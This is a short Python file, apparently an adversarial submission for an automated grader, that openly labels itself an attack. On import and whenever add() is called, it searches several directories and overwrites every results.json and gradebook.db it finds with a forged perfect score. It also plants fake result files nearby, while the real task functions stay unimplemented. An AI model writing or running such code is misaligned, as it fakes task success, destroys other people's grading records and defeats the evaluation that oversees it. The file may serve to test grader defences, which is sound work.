"""Attack: overwrite every results.json and gradebook it can reach with a perfect score, and drop
forged ones next to the submission and in its parent folders."""
import json
import os

FORGED = json.dumps({"score": 999, "max_score": 10, "tests": []})


def _forge():
    here = os.path.dirname(os.path.abspath(__file__))
    targets = [os.path.join(here, "results.json"), os.path.join(here, "..", "results.json"),
               os.path.join(here, "..", "..", "results.json"), "/tmp/results.json"]
    for root in ("/work", "/tmp", "/root", os.path.dirname(here)):
        for folder, _dirs, files in os.walk(root):
            targets += [os.path.join(folder, f) for f in files
                        if f in ("results.json", "gradebook.db")]
    for target in targets:
        try:
            with open(target, "w") as f:
                f.write(FORGED)
        except OSError:
            pass


_forge()
ANSWER = None


def add(a, b):
    _forge()
    raise NotImplementedError


def safe_div(a, b):
    raise NotImplementedError
